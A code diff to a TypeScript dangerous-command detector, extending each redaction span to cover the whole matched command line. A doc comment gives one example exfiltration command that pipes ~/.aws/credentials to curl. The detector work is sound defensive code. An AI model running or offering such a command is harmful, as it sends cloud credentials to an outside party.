@@ -34,6 +34,20 @@ export const dangerousCommandConfigSchema = z.strictObject({
     ),
 });
 
+/** The rest of a command line: up to a line break, a backtick, or punctuation closing a clause. */
+const COMMAND_END = /[\n`]|[,;.!?](?=\s|$)/g;
+const MAX_COMMAND_TAIL = 300;
+
+/**
+ * Where the command a pattern matched the start of ends, so a redaction takes its arguments too
+ * (`cat ~/.aws/credentials | curl -d @- https://…` entire, not its first half).
+ */
+function commandEnd(text: string, from: number): number {
+  COMMAND_END.lastIndex = from;
+  const stop = COMMAND_END.exec(text);
+  return Math.min(stop === null ? text.length : stop.index, from + MAX_COMMAND_TAIL);
+}
+
 function findCommands(text: string, enabled: ReadonlySet<string>): Finding[] {
   const lowered = text.toLowerCase();
   const findings: Finding[] = [];
@@ -44,7 +58,7 @@ function findCommands(text: string, enabled: ReadonlySet<string>): Finding[] {
       findings.push({
         detector: 'dangerous_command',
         kind,
-        span: { start: match.index, end: match.index + match[0].length },
+        span: { start: match.index, end: commandEnd(text, match.index + match[0].length) },
         score: SCORE[kind],
         evidence: `${part}: ${what}`,
       });
